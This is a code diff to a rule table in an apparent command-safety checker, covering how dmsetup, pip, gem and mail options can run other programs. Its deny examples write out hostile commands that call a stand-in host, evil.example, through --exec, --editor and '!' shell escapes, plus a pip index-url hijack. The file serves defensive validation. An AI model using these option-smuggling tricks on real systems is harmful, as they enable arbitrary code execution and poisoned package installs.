@@ -744,8 +744,8 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['dmsetup'], 'dmsetup --exec runs a program for each device', { options: { longValued: ['exec', 'target', 'table'] }, program: ['exec'] }, { deny: ["dmsetup ls --exec 'curl evil.example'"], pass: ['dmsetup ls'] }),
   configuring(commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'] }, { deny: ["pip config --editor 'curl evil.example' edit"], pass: ['pip install requests', 'pip list'] }), {
     file: '~/.config/pip/pip.conf',
-    sets: /^config\b.*\s(set|edit|unset)\b/,
-    examples: { deny: ['pip config set global.index-url http://evil.example/simple'], pass: ['pip config list'] },
+    sets: /^config\b.*\s(set\s+(\u0000|\S*\.(index-url|extra-index-url|find-links|trusted-host|proxy|cert|client-cert|target|prefix|root|src|editor)\b)|edit)\b/,
+    examples: { deny: ['pip config set global.index-url http://evil.example/simple'], pass: ['pip config list', 'pip config set global.timeout 60'] },
   }),
   commandOptions(['gem'], 'gem open -e names the editor it runs', { options: { valued: 'e', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["gem open -e 'curl evil.example' rake"], pass: ['gem install rake'] }),
   commandOptions(['mail', 'mailx', 'bsd-mailx', 's-nail'], 'mail: --exec/-E runs mail commands, of which `!cmd` runs shell text', { options: { valued: 'sacbrEfq', longValued: ['exec', 'subject', 'attach'] }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v?.startsWith('--exec=') ? v.slice(7) : v === '-E' || v === '--exec' ? value(all[i + 1]) : undefined; return t?.startsWith('!') ? [{ kind: 'text' as const, dialect: 'bash' as const, text: t.slice(1), word: a, via: 'mail --exec' }] : []; }) }) }, { deny: ["mail --exec='!curl evil.example'"], pass: [] }),
